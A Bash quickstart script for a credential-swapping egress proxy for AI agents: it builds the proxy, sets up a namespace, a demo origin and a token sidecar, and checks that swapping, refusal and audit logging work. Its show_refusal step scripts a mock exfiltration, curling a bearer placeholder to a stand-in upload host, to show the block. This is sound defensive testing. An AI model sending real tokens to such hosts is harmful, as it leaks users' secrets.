#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# From a fresh Debian 12 to a swapped request. Installs what is needed, builds into build/, and then shows the main job on real traffic:
# an HTTPS origin, a minting sidecar, Outgate between them, and an "agent": curl, as another user, in a network namespace whose only way
# out is Outgate. Everything that was started is stopped again at the end; the build stays.
#
#   deploy/quickstart.sh [--keep] [--loopback]
#
#   --keep      leave it running and print how to talk to it
#   --loopback  no namespace: shows the swap, not the boundary. Needs no root once the packages are there
set -euo pipefail
IFS=$' \n\t'
umask 022
cd "$(dirname "${BASH_SOURCE[0]}")/.."
TREE=$PWD
START=$(date +%s)

# The build needs the first line, the demonstration the second.
BUILD_PACKAGES="gcc libc6-dev cmake ninja-build pkg-config libssl-dev libyaml-dev libpsl-dev libidn2-dev libc-ares-dev libcurl4-openssl-dev libmicrohttpd-dev libnghttp2-dev zlib1g-dev libjansson-dev libseccomp-dev"
DEMO_PACKAGES="ca-certificates curl openssl python3-minimal libpython3-stdlib iproute2 util-linux"
MINT_UID=61190   # the sidecar
ORIGIN_UID=61191 # the origin
KEEPER_UID=61103 # Outgate's keeper, the only one that may ask the sidecar
NETNS=outgate-demo
LINK=ogdemo0
PEER=ogdemo1

KEEP=no
LOOPBACK=no
for word in "$@"; do
    case $word in
        --keep) KEEP=yes ;;
        --loopback) LOOPBACK=yes ;;
        -h | --help) sed -n '4,12s/^# \{0,1\}//p' "$TREE/deploy/quickstart.sh"; exit 0 ;;
        *) echo "quickstart: unknown option '$word' (--keep, --loopback)" >&2; exit 2 ;;
    esac
done

if [ -t 1 ]; then BOLD=$'\e[1m' PLAIN=$'\e[0m'; else BOLD='' PLAIN=''; fi
step() { printf '\n%s[%3d s] %s%s\n' "$BOLD" "$(($(date +%s) - START))" "$1" "$PLAIN"; }
say() { printf '  %s\n' "$@"; }
shown() { sed 's/^/    /'; }
die() {
    printf 'quickstart: %s\n' "$1" >&2
    shift
    [ $# -eq 0 ] || printf '  %s\n' "$@" >&2
    exit 1
}

# ---------------------------------------------------------------- what was started, and its end

DEMO=''
PIDS=()
MADE_NETNS=no
MADE_NFT=no

stop_pid() {
    local pid=$1 i
    kill "$pid" 2>/dev/null || return 0
    for ((i = 0; i < 100; i++)); do
        kill -0 "$pid" 2>/dev/null || { wait "$pid" 2>/dev/null || true; return 0; }
        sleep 0.05
    done
    kill "$pid" 2>/dev/null || true # the second one ends now
    for ((i = 0; i < 40; i++)); do
        kill -0 "$pid" 2>/dev/null || { wait "$pid" 2>/dev/null || true; return 0; }
        sleep 0.05
    done
    kill -KILL "$pid" 2>/dev/null || true
    wait "$pid" 2>/dev/null || true
}

cleanup() {
    local status=$? i
    trap - EXIT INT TERM HUP
    set +e
    if [ "$status" -eq 0 ] && [ "$KEEP" = yes ]; then
        exit 0
    fi
    for ((i = ${#PIDS[@]} - 1; i >= 0; i--)); do stop_pid "${PIDS[i]}"; done
    [ "$MADE_NFT" = yes ] && nft delete table inet outgate_demo 2>/dev/null
    if [ "$MADE_NETNS" = yes ]; then
        ip link delete "$LINK" 2>/dev/null
        ip netns delete "$NETNS" 2>/dev/null
    fi
    if [ "$status" -ne 0 ] && [ -n "$DEMO" ] && compgen -G "$DEMO/*.log" >/dev/null; then
        echo "quickstart: the last lines of its logs:" >&2
        tail -n 12 "$DEMO"/*.log >&2 2>/dev/null
    fi
    [ -n "$DEMO" ] && rm -rf "$DEMO"
    if [ "$status" -ne 0 ]; then
        printf 'quickstart: failed after %d s; what it started is stopped\n' "$(($(date +%s) - START))" >&2
    fi
    exit "$status"
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM HUP

# await FILE-OR-COMMAND...: until it holds, 20 s at most.
await() {
    local what=$1 i
    shift
    for ((i = 0; i < 400; i++)); do
        "$@" && return 0
        sleep 0.05
    done
    die "$what did not start within 20 s"
}

# ---------------------------------------------------------------- before anything is touched

ROOT=no
[ "$(id -u)" -ne 0 ] || ROOT=yes
if [ "$ROOT" = no ] && [ "$LOOPBACK" = no ]; then
    die "this needs root: it makes a network namespace, and gives every role a user of its own" \
        "as root:   sudo deploy/quickstart.sh" \
        "or:        deploy/quickstart.sh --loopback    no namespace: it shows the swap, not the boundary"
fi

install_packages() {
    local missing=() name status
    command -v dpkg-query >/dev/null || die "this machine has no dpkg: install these packages' equivalents, then build with cmake" \
        "$BUILD_PACKAGES" "$DEMO_PACKAGES"
    for name in $BUILD_PACKAGES $DEMO_PACKAGES; do
        status=$(dpkg-query -W -f '${Status}' "$name" 2>/dev/null || true)
        [ "$status" = "install ok installed" ] || missing+=("$name")
    done
    if [ ${#missing[@]} -eq 0 ]; then
        say "all packages are there"
        return
    fi
    [ "$ROOT" = yes ] || die "packages are missing, and only root can install them:" "apt-get install --no-install-recommends ${missing[*]}"
    say "installing: ${missing[*]}"
    local log
    log=$(mktemp)
    export DEBIAN_FRONTEND=noninteractive
    if ! { apt-get update -qq && apt-get install -y -qq --no-install-recommends "${missing[@]}"; } </dev/null >"$log" 2>&1; then
        tail -n 12 "$log" >&2
        die "apt-get failed (the whole log: $log)"
    fi
    rm -f "$log"
}

build() {
    local generator=()
    [ -f build/CMakeCache.txt ] || generator=(-G Ninja)
    mkdir -p build
    if ! { cmake -S . -B build "${generator[@]}" -DCMAKE_BUILD_TYPE=Release &&
        cmake --build build -j "$(nproc)" --target outgate outgate-mint; } >build/quickstart.log 2>&1; then
        tail -n 25 build/quickstart.log >&2
        die "the build failed (the whole log: $TREE/build/quickstart.log)"
    fi
    say "$(build/outgate version): build/outgate, build/outgate-mint"
}

# ---------------------------------------------------------------- the parts

# The folder 10.77.N.0/30 that nobody uses: .1 is the proxy's, .2 the agent's.
choose_network() {
    local n
    for ((n = 0; n < 250; n++)); do
        [ -n "$(ip -4 route show root "10.77.$n.0/30")" ] || { NET="10.77.$n"; return; }
    done
    die "no free network in 10.77.0.0/16"
}

make_namespace() {
    local hint="or run it without one: deploy/quickstart.sh --loopback (shows the swap, not the boundary)"
    ! ip netns list 2>/dev/null | grep -q "^$NETNS\b" || die "the namespace $NETNS exists: another quickstart runs, or one was left with --keep" \
        "if none does: ip netns delete $NETNS; ip link delete $LINK"
    ip netns add "$NETNS" 2>"$DEMO/ip.err" || die "cannot make a network namespace: $(tail -n 1 "$DEMO/ip.err")" \
        "it needs CAP_SYS_ADMIN and CAP_NET_ADMIN (a container: docker run --privileged, or --cap-add for both)" "$hint"
    MADE_NETNS=yes
    choose_network
    { ip link add "$LINK" type veth peer name "$PEER" && ip link set "$PEER" netns "$NETNS"; } 2>"$DEMO/ip.err" ||
        die "cannot make a veth pair: $(tail -n 1 "$DEMO/ip.err")" "it needs CAP_NET_ADMIN and the kernel module veth" "$hint"
    # No IPv6 on this link: a link-local address would be a second way to this machine.
    [ ! -e "/proc/sys/net/ipv6/conf/$LINK/disable_ipv6" ] || echo 1 >"/proc/sys/net/ipv6/conf/$LINK/disable_ipv6" 2>/dev/null || true
    ip netns exec "$NETNS" sh -c "echo 1 >/proc/sys/net/ipv6/conf/all/disable_ipv6" 2>/dev/null || true
    ip addr add "$NET.1/30" dev "$LINK"
    ip link set "$LINK" up
    ip -n "$NETNS" addr add "$NET.2/30" dev "$PEER"
    ip -n "$NETNS" link set "$PEER" up
    ip -n "$NETNS" link set lo up
    PROXY_ADDR=$NET.1 AGENT_ADDR=$NET.2
}

# Of this machine the agent reaches the proxy's port and nothing else. Optional: not every kernel and machine has nftables.
close_other_ports() {
    if command -v nft >/dev/null && nft -f - 2>/dev/null <<RULES
table inet outgate_demo {
  chain input { type filter hook input priority -10; policy accept; iifname "$LINK" tcp dport $PROXY_PORT accept; iifname "$LINK" drop; }
  chain forward { type filter hook forward priority -10; policy accept; iifname "$LINK" drop; }
}
RULES
    then
        MADE_NFT=yes
        say "nftables: from the namespace, this machine answers on port $PROXY_PORT alone"
    else
        say "no nftables here: what listens on all addresses of this machine can be reached from the namespace too (README.md has the rules)"
    fi
}

make_certificates() {
    local key=(-newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes)
    (
        cd "$DEMO/origin"
        umask 077
        openssl req -x509 "${key[@]}" -days 2 -subj "/CN=Demo CA" -keyout ca.key -out ca.pem \
            -addext basicConstraints=critical,CA:TRUE -addext keyUsage=critical,keyCertSign
        openssl req "${key[@]}" -subj "/CN=demo origin" -keyout origin.key -out origin.csr
        printf 'subjectAltName=DNS:api.demo.test,DNS:paste.demo.test\nextendedKeyUsage=serverAuth\n' >ext
        openssl x509 -req -in origin.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 -extfile ext -out origin.pem
    ) 2>"$DEMO/openssl.err" || die "openssl could not make the demo certificates" "$(tail -n 3 "$DEMO/openssl.err")"
    install -m 0644 "$DEMO/origin/ca.pem" "$DEMO/demo-ca.pem"
}

start_origin() {
    mkdir -m 0700 "$DEMO/origin"
    make_certificates
    [ "$ROOT" = no ] || chown -R "$ORIGIN_UID:$ORIGIN_UID" "$DEMO/origin"
    python3 deploy/demo_origin.py "$DEMO/origin" 127.0.0.2 127.0.0.3 </dev/null >"$DEMO/origin.log" 2>&1 &
    PIDS+=($!)
    await "the origin" test -s "$DEMO/origin/port"
    ORIGIN_PORT=$(cat "$DEMO/origin/port")
    [ "$ORIGIN_PORT" = 443 ] && AT='' || AT=":$ORIGIN_PORT"
    say "origin:  https://api.demo.test$AT at 127.0.0.2, https://paste.demo.test$AT at 127.0.0.3 (python3, certificate of a demo CA)"
}

start_mint() {
    local run=() uid
    mkdir -m 0755 "$DEMO/mint"
    REAL="ghs_$(openssl rand -hex 18)"
    (umask 077 && printf '%s\n' "$REAL" >"$DEMO/mint/github.token")
    uid=$(id -u)
    if [ "$ROOT" = yes ]; then
        run=(setpriv "--reuid=$MINT_UID" "--regid=$MINT_UID" --clear-groups --no-new-privs)
        uid=$MINT_UID
        chown -R "$MINT_UID:$MINT_UID" "$DEMO/mint"
    fi
    MINT_PEER=$uid
    cat >"$DEMO/mint.yaml" <<YAML
version: 1
socket: mint/mint.sock
peer_uids: [$([ "$ROOT" = yes ] && echo "$KEEPER_UID" || echo "$uid")]
credentials:
  - {name: github, source: {file: mint/github.token}, ttl: 10m, agents: [coder]}
YAML
    env -i PATH="$PATH" "${run[@]}" "$TREE/build/outgate-mint" -c "$DEMO/mint.yaml" </dev/null >"$DEMO/mint.log" 2>&1 &
    PIDS+=($!)
    await "outgate-mint" test -S "$DEMO/mint/mint.sock"
    say "sidecar: outgate-mint on $DEMO/mint/mint.sock, as uid $uid$([ "$ROOT" = no ] || echo "; it alone can read the long-lived secret")"
}

start_outgate() {
    cat >"$DEMO/outgate.yaml" <<YAML
version: 1
state_dir: state
runtime_dir: run
listen:
  proxy: ["$PROXY_ADDR:$PROXY_PORT"]
resolver:
  hosts:                                  # the demo's names; everything else is asked as usual
    api.demo.test: [127.0.0.2]
    paste.demo.test: [127.0.0.3]
origin:
  ca_file: [demo-ca.pem]
  allow_addresses: [127.0.0.2/32, 127.0.0.3/32]
agents:
  - name: coder
    identify: [{source: $AGENT_ADDR/32}]
rules:
  - {name: api, agents: [coder], hosts: [api.demo.test], ports: [$ORIGIN_PORT], methods: [GET, POST], action: allow}
  - {name: paste, agents: [coder], hosts: [paste.demo.test], ports: [$ORIGIN_PORT], action: allow}
credentials:
  - name: github
    agents: [coder]
    hosts: [api.demo.test]                # the one place where the real value may go
    ports: [$ORIGIN_PORT]
    slots: ["header:authorization"]
    env: GITHUB_TOKEN
    source: {sidecar: local}
sidecars:
  - {name: local, socket: mint/mint.sock, peer_uid: $MINT_PEER}
YAML
    # init makes a folder of its own; its state is what we want.
    build/outgate init "$DEMO/fresh" >/dev/null
    mv "$DEMO/fresh/state" "$DEMO/state"
    rm -r "$DEMO/fresh"
    build/outgate check -c "$DEMO/outgate.yaml" | shown
    build/outgate serve -c "$DEMO/outgate.yaml" </dev/null >"$DEMO/serve.log" 2>&1 &
    SERVER=$!
    PIDS+=("$SERVER")
    await "outgate serve" server_ready
    say "outgate: $(grep 'outgate: ready' "$DEMO/serve.log" | tail -n 1)"
}
server_ready() {
    kill -0 "$SERVER" 2>/dev/null || die "outgate serve ended"
    grep -qs 'outgate: ready' "$DEMO/serve.log"
}

choose_port() {
    local port
    for port in 3128 3129 8128 13128 23128; do
        (exec 3<>"/dev/tcp/$PROXY_ADDR/$port") 2>/dev/null || { PROXY_PORT=$port; return; }
    done
    die "no free port for the proxy"
}

# The agent: another user, no capability, an environment made of `outgate env` alone, in the namespace.
make_agent() {
    build/outgate env -c "$DEMO/outgate.yaml" --agent coder --format sh >"$DEMO/agent.env"
    AGENT=()
    [ "$LOOPBACK" = yes ] || AGENT=(ip netns exec "$NETNS")
    [ "$ROOT" = no ] || AGENT+=(setpriv --reuid=nobody --regid=nogroup --clear-groups --inh-caps=-all --bounding-set=-all --no-new-privs)
    # shellcheck disable=SC2016 # expanded by the agent's shell
    AGENT+=(env -i "PATH=/usr/bin:/bin" HOME=/ sh -c 'cd / && . "$0" && exec "$@"' "$DEMO/agent.env")
    PLACEHOLDER=$("${AGENT[@]}" printenv GITHUB_TOKEN)
}
agent() { "${AGENT[@]}" "$@"; }

masked() { printf '%s…%s' "${1:0:10}" "${1: -4}"; }

# ---------------------------------------------------------------- what it shows

show_swap() {
    step "The agent asks for https://api.demo.test$AT/user with its placeholder"
    local seen
    say "sent by the agent:" "    Authorization: Bearer $PLACEHOLDER"
    agent curl -sS --max-time 20 -H "Authorization: Bearer $PLACEHOLDER" -w '\nHTTP %{http_code}\n' "https://api.demo.test$AT/user" >"$DEMO/answer" ||
        die "the request did not go through" "$(cat "$DEMO/answer")"
    seen=$(python3 -c 'import json, sys; print({k.lower(): v for k, v in json.load(open(sys.argv[1]))["headers"].items()}["authorization"])' "$DEMO/origin/seen.json")
    [ "$seen" = "Bearer $REAL" ] || die "the origin did not see the real value"
    say "seen by the origin:" "    Authorization: Bearer $(masked "$REAL")      (the real value, shortened here)"
    ! grep -qF "$REAL" "$DEMO/answer" || die "the agent saw the real value"
    grep -qF "$PLACEHOLDER" "$DEMO/answer" || die "the echo does not hold the placeholder"
    say "seen by the agent (the origin echoes what it was sent; the real value was turned back):"
    shown <"$DEMO/answer"
}

show_refusal() {
    step "Exfiltration: the same placeholder to another host, which a rule allows"
    agent curl -sS --max-time 20 -H "Authorization: Bearer $PLACEHOLDER" -w '\nHTTP %{http_code}\n' "https://paste.demo.test$AT/upload" >"$DEMO/refusal" || true
    grep -q '"code":"placeholder_wrong_host"' "$DEMO/refusal" || die "it was not refused as placeholder_wrong_host" "$(cat "$DEMO/refusal")"
    shown <"$DEMO/refusal"
    agent curl -sS --max-time 20 -o /dev/null "https://paste.demo.test$AT/upload" ||
        die "the control failed: without the placeholder the same request should pass"
    say "control: without the placeholder the same request passes"
}

show_boundary() {
    if [ "$LOOPBACK" = yes ]; then
        step "No boundary in this mode"
        say "the agent is on this machine's network and could leave around the proxy; run this as root without --loopback to see the namespace"
        [ "$ROOT" = yes ] || say "it is also the same user as everything else here, and could read the secret's file: root gives each a user of its own"
        return
    fi
    step "Around the proxy"
    say "routes in the namespace: $(ip -n "$NETNS" route show | tr '\n' ' ')"
    ! agent curl -sS --noproxy '*' --max-time 5 https://192.0.2.1/ 2>"$DEMO/direct" >&2 || die "the agent left around the proxy"
    say "agent, directly: $(tail -n 1 "$DEMO/direct")"
}

show_log() {
    local i
    step "The audit log"
    for ((i = 0; i < 60; i++)); do
        build/outgate audit tail -c "$DEMO/outgate.yaml" -n 200 --json >"$DEMO/events"
        [ "$(grep -c '"type":"close"' "$DEMO/events")" -lt 3 ] || break
        sleep 0.1
    done
    say "the close event of the swapped request:"
    grep '"type":"close"' "$DEMO/events" | grep '"path":"/user"' | shown
    say "and of the refused one, with its finding:"
    grep '"type":"close"' "$DEMO/events" | grep 'placeholder_wrong_host' | shown
    grep '"type":"finding"' "$DEMO/events" | shown
    ! grep -rqF "$REAL" "$DEMO/state" "$DEMO/serve.log" || die "the real value is in the log or the state folder"
    say "audit verify:"
    build/outgate audit verify -c "$DEMO/outgate.yaml" | shown
}

keep_running() {
    disown -a
    local how="setpriv --reuid=nobody --regid=nogroup --clear-groups --no-new-privs"
    [ "$ROOT" = yes ] || how=""
    [ "$LOOPBACK" = yes ] || how="ip netns exec $NETNS $how"
    step "It goes on running (pids ${PIDS[*]})"
    say "as the agent:   $how env -i PATH=\$PATH sh -c '. $DEMO/agent.env; exec bash --norc'" \
        "                curl -H \"Authorization: Bearer \$GITHUB_TOKEN\" https://api.demo.test$AT/user" \
        "configuration:  $DEMO/outgate.yaml, then: build/outgate reload -c $DEMO/outgate.yaml" \
        "events:         build/outgate audit tail -f -c $DEMO/outgate.yaml" \
        "why:            build/outgate explain -c $DEMO/outgate.yaml --agent coder GET https://api.demo.test$AT/user" \
        "to end it:      kill ${PIDS[*]}$([ "$MADE_NETNS" = no ] || echo "; ip link delete $LINK; ip netns delete $NETNS")$([ "$MADE_NFT" = no ] || echo "; nft delete table inet outgate_demo"); rm -r $DEMO"
}

# ---------------------------------------------------------------- one after the other

step "Packages"
install_packages
step "Build (Release, into build/)"
build

step "The parts"
DEMO=$(mktemp -d /tmp/outgate-demo.XXXXXX)
chmod 0755 "$DEMO"
if [ "$LOOPBACK" = yes ]; then
    PROXY_ADDR=127.0.0.1 AGENT_ADDR=127.0.0.1
else
    make_namespace
    say "agent:   namespace $NETNS, $AGENT_ADDR, user nobody; the proxy is at $PROXY_ADDR"
fi
choose_port
[ "$LOOPBACK" = yes ] || close_other_ports
start_origin
start_mint
start_outgate
make_agent
show_swap
show_refusal
show_boundary
show_log
[ "$KEEP" = no ] || keep_running
step "Done"
printf 'quickstart: passed in %d s\n' "$(($(date +%s) - START))"
